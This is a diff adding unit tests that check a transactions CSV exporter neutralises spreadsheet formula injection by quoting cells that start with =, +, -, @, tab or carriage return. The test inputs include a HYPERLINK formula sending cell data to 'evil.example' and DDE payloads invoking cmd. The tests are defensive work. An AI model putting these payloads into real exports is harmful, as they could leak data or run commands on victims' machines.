@@ -79,3 +79,64 @@ describe('transactions CSV', () => {
     expect(transactionsCsv(named).indexOf('\uFEFF', 1)).toBe(-1);
   });
 });
+
+describe('transactions CSV against formula injection', () => {
+  const withText = (text: string, amount = 12.5) =>
+    ({
+      report: {
+        items: [
+          {
+            institution_name: text,
+            accounts: [
+              {
+                name: text,
+                mask: text,
+                transactions: [
+                  {
+                    date: '2026-10-02',
+                    amount,
+                    original_description: text,
+                    merchant_name: text,
+                    category: [text],
+                    iso_currency_code: text,
+                  },
+                ],
+              },
+            ],
+          },
+        ],
+      },
+    }) as unknown as AssetReportGetResult;
+  /** The second line's cells, read back as RFC 4180 (quotes undone). */
+  const cells = (csv: string): string[] => {
+    const line = csv.split('\r\n')[1]!;
+    const out: string[] = [];
+    for (const match of line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)) {
+      const raw = match[1]!;
+      out.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
+      if (match[2] === '') break;
+    }
+    return out;
+  };
+
+  it.each([
+    '=HYPERLINK("https://evil.example/?d="&A1,"Payroll")',
+    "+1+cmd|'/c calc'!A1",
+    '-2+3',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '\tTAB=1+1',
+    '\r=1+1',
+  ])('a text cell starting %j is written with a leading quote, so a spreadsheet shows it as text', (text) => {
+    const row = cells(transactionsCsv(withText(text)));
+    // date, bank, account, mask, description, merchant, category, amount, currency
+    expect(row).toHaveLength(9);
+    for (const index of [1, 2, 3, 4, 5, 6, 8]) expect(row[index], `column ${index}`).toBe(`'${text}`);
+  });
+
+  it('amounts stay numbers (a withdrawal keeps its minus sign), ordinary text is unchanged', () => {
+    const row = cells(transactionsCsv(withText('Coffee - 2 cups', 12.5)));
+    expect(row[7]).toBe('-12.50');
+    expect(row[4]).toBe('Coffee - 2 cups');
+    expect(cells(transactionsCsv(withText('Payroll', -7350)))[7]).toBe('7350.00');
+  });
+});
